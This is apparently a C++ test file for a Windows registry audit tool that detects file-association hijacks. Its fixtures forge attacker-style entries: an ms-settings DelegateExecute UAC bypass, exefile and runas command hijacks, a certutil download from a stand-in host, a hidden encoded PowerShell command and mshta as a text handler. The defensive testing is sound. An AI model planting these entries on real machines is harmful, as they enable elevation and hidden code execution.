// The audit of a user's associations: hijacks forged the way attackers write them, each found
// with its severity; the real hives' findings, each one explained; the same findings from a
// registry and from its .reg export; and the allow-list's file.

#include "catalogue/audit/Audit.h"

#include "catalogue/effective/KeyPaths.h"
#include "registry/regedit/RegFileExport.h"
#include "tests/catalogue/EffectiveFixture.h"
#include "tests/support/SharedHives.h"

#include <filesystem>
#include <gtest/gtest.h>
#include <map>
#include <tuple>

namespace moxalo::catalogue::audit {
namespace {

using testing::TempDir;

constexpr const char* kSid = "S-1-5-21-0-0-0-1000";
const std::string kFreshPrefix = std::string(MOXALO_FIXTURES) + "/effective/wine-fresh";

AuditReport audit(effective::UserView& view, const AllowList& allow = AllowList::defaults()) {
    auto report = runAudit(view, allow);
    EXPECT_TRUE(report) << (report ? "" : report.error());
    return report ? std::move(*report) : AuditReport{};
}

const Finding* findingOf(const AuditReport& report, std::string_view rule, std::string_view key) {
    for (const Finding& f : report.findings)
        if (f.rule == rule && f.key == key)
            return &f;
    return nullptr;
}

std::string describe(const AuditReport& report) {
    std::string text;
    for (const Finding& f : report.findings)
        text += std::string(severityText(f.severity)) + " " + f.rule + " " + f.key + " [" +
                f.valueName + "] " + f.value + (f.allowedBy.empty() ? "" : " (allowed)") + "\n";
    return text;
}

// A user's classes rewritten as the elevation bypasses and hijacks of T1546.001 write them.
const char* const kForged =
    "[HKEY_CURRENT_USER\\Software\\Classes\\exefile\\shell\\open\\command]\r\n"
    "@=\"\\\"%APPDATA%\\\\x.exe\\\" \\\"%1\\\" %*\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command]\r\n"
    "@=\"cmd.exe /c start calc.exe\"\r\n\"DelegateExecute\"=\"\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\exefile\\shell\\runas\\command]\r\n"
    "\"IsolatedCommand\"=\"C:\\\\Users\\\\Public\\\\y.exe\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\.txt]\r\n@=\"VBSFile\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\Editor\\shell\\open\\command]\r\n"
    "@=\"C:\\\\Program Files\\\\Editor\\\\editor.exe\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\.ed]\r\n@=\"Editor\"\r\n\r\n";

TEST(Audit, EachForgedHijackIsFoundHighWithItsKeyAndWhy) {
    TempDir dir;
    auto opened = testing::openView({testing::writeRegFile(dir, "forged.reg", kForged)});
    ASSERT_TRUE(opened.view);
    AuditReport report = audit(*opened.view);
    const std::string classes = "HKCU\\Software\\Classes\\";
    struct Expected {
        std::string rule, key, valueName;
    };
    for (const Expected& e : std::vector<Expected>{
             {"sensitive-class-override", classes + "exefile\\shell\\open\\command", ""},
             {"delegate-execute", classes + "ms-settings\\shell\\open\\command", "DelegateExecute"},
             {"isolated-command", classes + "exefile\\shell\\runas\\command", "IsolatedCommand"},
             {"data-type-runs-code", classes + ".txt", ""}}) {
        const Finding* f = findingOf(report, e.rule, e.key);
        ASSERT_NE(f, nullptr) << e.rule << " on " << e.key << "\n" << describe(report);
        EXPECT_EQ(f->severity, Severity::High) << e.rule;
        EXPECT_EQ(f->valueName, e.valueName) << e.rule;
        EXPECT_FALSE(f->why.empty());
        EXPECT_EQ(f->allowedBy, "");
        EXPECT_FALSE(f->lastWritten) << "a .reg file keeps no key times";
    }
    EXPECT_EQ(findingOf(report, "data-type-runs-code", classes + ".txt")->value, "VBSFile");
    // The command's own signs come beside the class's: a program in AppData, a script host.
    EXPECT_EQ(
        findingOf(report, "writable-folder", classes + "exefile\\shell\\open\\command")->severity,
        Severity::Low);
    EXPECT_EQ(
        findingOf(report, "script-host", classes + "ms-settings\\shell\\open\\command")->severity,
        Severity::Medium);
    // An ordinary program's class: only its unquoted path and the missing %1 are told.
    const Finding* unquoted =
        findingOf(report, "unquoted-path", classes + "Editor\\shell\\open\\command");
    ASSERT_NE(unquoted, nullptr) << describe(report);
    EXPECT_EQ(unquoted->severity, Severity::Low);
    EXPECT_NE(findingOf(report, "no-file-argument", classes + "Editor\\shell\\open\\command"),
              nullptr);
    EXPECT_FALSE(report.keyTimes);
    for (std::size_t i = 1; i < report.findings.size(); ++i)
        EXPECT_GE(report.findings[i - 1].severity, report.findings[i].severity) << describe(report);
}

// A Wine prefix keeps key times: a choice whose hash is wrong is told as failing, high.
std::string prefixWithForgedChoice(const TempDir& dir) {
    std::string prefix = dir.file("prefix");
    std::filesystem::create_directories(prefix);
    std::filesystem::copy_file(kFreshPrefix + "/system.reg", prefix + "/system.reg");
    testing::writeFile(
        prefix + "/user.reg",
        testing::readFile(kFreshPrefix + "/user.reg") +
            "\n[Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Explorer\\\\FileExts\\\\."
            "txt\\\\"
            "UserChoice] 1796718931\n#time=1dd86ef15e6b0d0\n\"ProgId\"=\"txtfile\"\n"
            "\"Hash\"=\"AAAAAAAAAAA=\"\n\n"
            "[Software\\\\Microsoft\\\\Windows\\\\Shell\\\\Associations\\\\UrlAssociations\\\\"
            "mailto\\\\UserChoice] 1796718931\n#time=1dd86ef15e6b0d0\n\"ProgId\"=\"txtfile\"\n"
            "\"Hash\"=\"AAAAAAAAAAA=\"\n\n"
            "[Software\\\\Classes\\\\txtfile\\\\shell\\\\open\\\\command] 1796718931\n"
            "#time=1dd86ef15e6b0d0\n@=\"C:\\\\windows\\\\system32\\\\mshta.exe %1\"\n\n");
    return prefix;
}

TEST(Audit, AChoiceWhoseHashFailsIsHighAndKeysWrittenTogetherShareACluster) {
    TempDir dir;
    std::string prefix = prefixWithForgedChoice(dir);
    auto opened = testing::openView({prefix}, kSid);
    ASSERT_TRUE(opened.view);
    AuditReport report = audit(*opened.view);
    EXPECT_TRUE(report.keyTimes);
    const std::string choiceKey =
        "HKCU\\" + std::string(effective::kFileExts) + "\\.txt\\UserChoice";
    const Finding* hash = findingOf(report, "userchoice-hash-fails", choiceKey);
    ASSERT_NE(hash, nullptr) << describe(report);
    EXPECT_EQ(hash->severity, Severity::High);
    EXPECT_EQ(hash->valueName, "Hash");
    EXPECT_EQ(hash->value, "AAAAAAAAAAA=");
    ASSERT_TRUE(hash->lastWritten);
    // A URL scheme's choice carries the same hash, with the scheme in place of the extension.
    const Finding* mailto = findingOf(report, "userchoice-hash-fails",
                                      "HKCU\\Software\\Microsoft\\Windows\\Shell\\Associations\\Url"
                                      "Associations\\mailto\\UserChoice");
    ASSERT_NE(mailto, nullptr) << describe(report);
    EXPECT_EQ(mailto->severity, Severity::High);
    // The user's txtfile replaces the machine's notepad with a script host, both written in the
    // same second: one cluster.
    const Finding* shadow = findingOf(report, "user-shadows-machine",
                                      "HKCU\\Software\\Classes\\txtfile\\shell\\open\\command");
    ASSERT_NE(shadow, nullptr) << describe(report);
    EXPECT_EQ(shadow->severity, Severity::Medium);
    EXPECT_GT(hash->cluster, 0);
    EXPECT_EQ(shadow->cluster, hash->cluster);
    // The same choice without its SID cannot be checked, and is not told as failing.
    auto unknown = testing::openView({prefix});
    EXPECT_EQ(findingOf(audit(*unknown.view), "userchoice-hash-fails", choiceKey), nullptr);
}

// A user's classes whose commands each carry one sign, or none, with the weight it carries.
const char* const kSigns =
    "[HKEY_CURRENT_USER\\Software\\Classes\\TempTool\\shell\\open\\command]\r\n"
    "@=\"\\\"C:\\\\Windows\\\\Temp\\\\a.exe\\\" \\\"%1\\\"\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\Fetcher\\shell\\open\\command]\r\n"
    "@=\"certutil.exe -urlcache -f http://example.invalid/a.exe %1\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\Encoded\\shell\\open\\command]\r\n"
    "@=\"powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA= "
    "%1\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\Dll\\shell\\open\\command]\r\n"
    "@=\"rundll32.exe shell32.dll,Control_RunDLL \\\"%1\\\"\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\Com\\shell\\open\\command]\r\n"
    "\"DelegateExecute\"=\"{4ED3A719-CEA8-4BD9-910D-E252F997AFC2}\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\AppXfqdap54b29v3w265t548h0wzs1hqega7\\shell\\"
    "open\\command]\r\n\"DelegateExecute\"=\"{4ED3A719-CEA8-4BD9-910D-E252F997AFC2}\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\VBSFile\\shell\\open\\command]\r\n"
    "@=\"%SystemRoot%\\\\System32\\\\WScript.exe \\\"%1\\\" %*\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\Folder\\shell\\Tool\\command]\r\n"
    "@=\"\\\"C:\\\\Program Files\\\\Tool\\\\tool.exe\\\" \\\"%1\\\"\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\Viewer\\shell\\open\\command]\r\n"
    "@=\"\\\"C:\\\\Program Files\\\\Viewer\\\\viewer.exe\\\"\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Classes\\Viewer\\shell\\open\\ddeexec]\r\n@=\"[open(\\\"%1\\\")]"
    "\"\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.doc\\"
    "UserChoice]\r\n\"ProgId\"=\"Applications\\\\C:\\\\Temp\\\\x.exe\"\r\n\"Hash\"=\"AAAAAAAAAAA="
    "\"\r\n\r\n";

TEST(Audit, EachSignOfACommandWeighsAsItShould) {
    TempDir dir;
    auto opened = testing::openView({testing::writeRegFile(dir, "signs.reg", kSigns)});
    ASSERT_TRUE(opened.view);
    AuditReport report = audit(*opened.view);
    const std::string kDocChoice =
        "HKCU\\" + std::string(effective::kFileExts) + "\\.doc\\UserChoice";
    auto command = [](const std::string& type, const std::string& verb = "open") {
        return "HKCU\\Software\\Classes\\" + type + "\\shell\\" + verb + "\\command";
    };
    struct Expected {
        std::string rule, key;
        Severity severity;
    };
    for (const Expected& e : std::vector<Expected>{
             {"writable-folder", command("TempTool"), Severity::Medium},
             {"script-host", command("Fetcher"), Severity::High},
             {"url-argument", command("Fetcher"), Severity::Medium},
             {"script-host", command("Encoded"), Severity::Medium},
             {"encoded-argument", command("Encoded"), Severity::Medium},
             {"script-host", command("Dll"), Severity::Medium},
             {"delegate-execute", command("Com"), Severity::Medium},
             {"sensitive-class-override", command("VBSFile"), Severity::High},
             {"sensitive-class-override", command("Folder", "Tool"), Severity::Medium},
             {"userchoice-odd-application",
              "HKCU\\" + std::string(effective::kFileExts) + "\\.doc\\UserChoice",
              Severity::Medium}}) {
        const Finding* f = findingOf(report, e.rule, e.key);
        ASSERT_NE(f, nullptr) << e.rule << " on " << e.key << "\n" << describe(report);
        EXPECT_EQ(f->severity, e.severity) << e.rule << " on " << e.key;
    }
    // What is as it should be: a packaged app's DelegateExecute, wscript running VBSFile, a
    // verb whose DDE message names the file.
    for (const Finding& f : report.findings) {
        EXPECT_NE(f.type, "AppXfqdap54b29v3w265t548h0wzs1hqega7") << describe(report);
        EXPECT_FALSE(f.rule == "script-host" && f.type == "VBSFile") << describe(report);
        EXPECT_NE(f.type, "Viewer") << describe(report);
    }
}

TEST(Audit, AFreshWinePrefixGivesNothing) {
    // Its machine's handlers run rundll32 and send DDE messages, and Wine writes its URL
    // choices without a hash: each as Windows and Wine do it.
    auto opened = testing::openView({kFreshPrefix});
    ASSERT_TRUE(opened.view);
    AuditReport report = audit(*opened.view);
    EXPECT_TRUE(report.findings.empty()) << describe(report);
    EXPECT_TRUE(report.keyTimes);
}

using Compared = std::tuple<Severity, std::string, std::string, std::string, std::string,
                            std::string, std::string>;

std::vector<Compared> compared(const AuditReport& report, bool withTimedRules) {
    std::vector<Compared> list;
    for (const Finding& f : report.findings)
        if (withTimedRules || f.rule != "userchoice-hash-fails")
            list.emplace_back(f.severity, f.rule, f.type, f.key, f.valueName, f.value, f.allowedBy);
    std::sort(list.begin(), list.end());
    return list;
}

// The user's and the machine's classes and the user's FileExts, as regedit would export them.
std::string exportedView(const effective::UserView& view, const TempDir& dir) {
    std::vector<regfile::ExportedKey> keys;
    for (const auto& root : view.userClassesRoots())
        keys.push_back({root.store, root.key, "HKEY_CURRENT_USER\\Software\\Classes"});
    for (const auto& root : view.machineClassesRoots())
        keys.push_back({root.store, root.key, "HKEY_LOCAL_MACHINE\\SOFTWARE\\Classes"});
    auto user = view.currentUserRoot();
    effective::Place fileExts =
        effective::Place{user.store, user.key, "HKCU"}.below(effective::kFileExts);
    if (fileExts)
        keys.push_back({fileExts.store, fileExts.key,
                        "HKEY_CURRENT_USER\\" + std::string(effective::kFileExts)});
    std::string path = dir.file("exported.reg");
    testing::writeFile(path, regfile::exportRegFile(keys));
    return path;
}

TEST(Audit, AnExportedRegistryGivesTheSameFindingsButThoseThatNeedKeyTimes) {
    std::vector<std::vector<std::string>> sources{{}};
    TempDir dir;
    sources.front().push_back(prefixWithForgedChoice(dir));
    if (testing::haveSharedHives())
        for (const auto& set :
             std::vector<std::vector<std::string>>{{"win10-UsrClass.dat", "win10-NTUSER.DAT"},
                                                   {"win11-UsrClass.dat"},
                                                   {"win10-plaso-UsrClass.dat"},
                                                   {"win10-regipy-UsrClass.dat"},
                                                   {"win7-small-UsrClass.dat"}}) {
            sources.emplace_back();
            for (const auto& name : set)
                sources.back().push_back(testing::sharedHive(name));
        }
    for (const auto& paths : sources) {
        auto original = testing::openView(paths, kSid);
        ASSERT_TRUE(original.view);
        AuditReport before = audit(*original.view);
        TempDir exportDir;
        auto exported = testing::openView({exportedView(*original.view, exportDir)}, kSid);
        ASSERT_TRUE(exported.view);
        AuditReport after = audit(*exported.view);
        EXPECT_TRUE(before.keyTimes) << paths.front();
        EXPECT_FALSE(after.keyTimes) << "the export says it has no key times";
        EXPECT_EQ(compared(after, true), compared(before, false)) << paths.front() << "\nbefore:\n"
                                                                  << describe(before) << "after:\n"
                                                                  << describe(after);
        for (const Finding& f : after.findings)
            EXPECT_FALSE(f.lastWritten || f.cluster) << f.key;
    }
}

std::map<std::string, int> countByRule(const AuditReport& report, bool allowed) {
    std::map<std::string, int> counts;
    for (const Finding& f : report.findings)
        if (f.allowedBy.empty() != allowed)
            ++counts[std::string(severityText(f.severity)) + " " + f.rule];
    return counts;
}

TEST(Audit, TheRealHivesGiveOnlyTheKnownProgramsAndProcmonOnTheDesktop) {
    MOXALO_NEED_SHARED_HIVES();
    const std::string oneDrive =
        "OneDrive, which installs for each user under %LOCALAPPDATA%\\Microsoft\\OneDrive";
    for (const std::vector<std::string>& set :
         {std::vector<std::string>{"win10-UsrClass.dat", "win10-NTUSER.DAT"},
          {"win11-UsrClass.dat"}}) {
        std::vector<std::string> paths;
        for (const auto& name : set)
            paths.push_back(testing::sharedHive(name));
        auto opened = testing::openView(paths);
        AuditReport report = audit(*opened.view);
        // Seven OneDrive commands (odopen, grvopen, SharePoint, .fluid, .loop, .note,
        // .whiteboard), all under AppData, all allowed; the UserChoice hashes all verify.
        EXPECT_EQ(countByRule(report, true),
                  (std::map<std::string, int>{{"low writable-folder", 7}}))
            << describe(report);
        EXPECT_TRUE(countByRule(report, false).empty()) << describe(report);
        for (const Finding& f : report.findings)
            EXPECT_EQ(f.allowedBy, oneDrive) << f.key;
    }
    auto plaso = testing::openView({testing::sharedHive("win10-plaso-UsrClass.dat")});
    AuditReport spotify = audit(*plaso.view);
    ASSERT_EQ(spotify.findings.size(), 1u) << describe(spotify);
    EXPECT_EQ(spotify.findings[0].key, "HKCU\\Software\\Classes\\spotify\\shell\\open\\command");
    EXPECT_NE(spotify.findings[0].allowedBy.find("Spotify"), std::string::npos);

    auto win7 = testing::openView({testing::sharedHive("win7-small-UsrClass.dat")});
    AuditReport procmon = audit(*win7.view);
    ASSERT_EQ(procmon.findings.size(), 1u) << describe(procmon);
    EXPECT_EQ(procmon.findings[0].rule, "writable-folder");
    EXPECT_EQ(procmon.findings[0].severity, Severity::Low);
    EXPECT_EQ(procmon.findings[0].allowedBy, "") << "a tool run from the Desktop stays a finding";
    EXPECT_NE(procmon.findings[0].value.find("\\Desktop\\Procmon.exe"), std::string::npos);
}

TEST(Audit, AUsersAllowFileAddsRulesAndNamesTheLineOfAMalformedOne) {
    TempDir dir;
    std::string good = dir.file("allow.txt");
    testing::writeFile(good, "# our editor\r\nprogid\tEditor\tthe team's editor\n\n"
                             "key\t*\\exefile\\*\ttried to allow a high finding\n");
    AllowList allow = AllowList::defaults();
    ASSERT_TRUE(allow.addFile(good));
    auto opened = testing::openView({testing::writeRegFile(dir, "forged.reg", kForged)});
    AuditReport report = audit(*opened.view, allow);
    const Finding* unquoted =
        findingOf(report, "unquoted-path", "HKCU\\Software\\Classes\\Editor\\shell\\open\\command");
    ASSERT_NE(unquoted, nullptr);
    EXPECT_EQ(unquoted->allowedBy, "the team's editor");
    EXPECT_EQ(findingOf(report, "sensitive-class-override",
                        "HKCU\\Software\\Classes\\exefile\\shell\\open\\command")
                  ->allowedBy,
              "")
        << "a high finding is never allowed away";

    struct Bad {
        std::string text, error;
    };
    for (const Bad& bad : std::vector<Bad>{
             {"program\t*\\x.exe\twhy\n# fine\nprogram\tC:\\*\n",
              ":3: expected KIND, TAB, PATTERN, TAB, REASON"},
             {"\n\nfile\t*.exe\tbecause\n", ":3: \"file\" is no kind: program, progid or key"},
             {"key\t\tbecause\n", ":1: the pattern is empty"},
             {"progid\tEditor\t\n", ":1: the reason is empty: say why it is allowed"}}) {
        std::string path = dir.file("bad.txt");
        testing::writeFile(path, bad.text);
        AllowList list;
        Result<void> added = list.addFile(path);
        ASSERT_FALSE(added) << bad.text;
        EXPECT_EQ(added.error(), path + bad.error);
    }
    AllowList none;
    EXPECT_EQ(none.addFile(dir.file("missing.txt")).error(),
              dir.file("missing.txt") + ": cannot be read");
}

} // namespace
} // namespace moxalo::catalogue::audit
